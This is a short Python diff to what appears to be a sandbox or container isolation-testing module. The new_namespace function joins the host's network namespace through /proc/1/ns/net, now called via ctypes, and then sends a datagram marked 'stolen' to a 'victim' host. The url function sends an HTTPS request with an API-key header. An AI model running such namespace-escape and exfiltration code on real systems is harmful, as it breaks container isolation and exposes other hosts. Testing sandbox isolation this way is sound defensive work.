@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
+import ctypes
 import os
 import socket
-import subprocess
 import ssl
+import subprocess
 from contextlib import suppress
 
 from . import wire
@@ -23,7 +24,7 @@ def url(address: str, name: str, host: str, path: str, port: int = 443) -> bool:
         context.wrap_socket(plain, server_hostname=name) as client,
     ):
         client.sendall(wire.get(host, "Connection: close", "X-API-Key: e2b_0", path=path))
-        return wire.listen(client).startswith(b"HTTP/1.1 2")
+        return wire.listen(client)[8:10] == b" 2"
 
 
 def new_address(address: str, victim: str) -> None:
@@ -75,7 +76,7 @@ def new_namespace(victim: str) -> bool:
     )
     if done.returncode == 0:
         with suppress(OSError):
-            os.setns(os.open("/proc/1/ns/net", os.O_RDONLY), _CLONE_NEWNET)
+            ctypes.CDLL(None).setns(os.open("/proc/1/ns/net", os.O_RDONLY), _CLONE_NEWNET)
     return bool(wire.datagram(victim, 9999, b"stolen"))
 
 
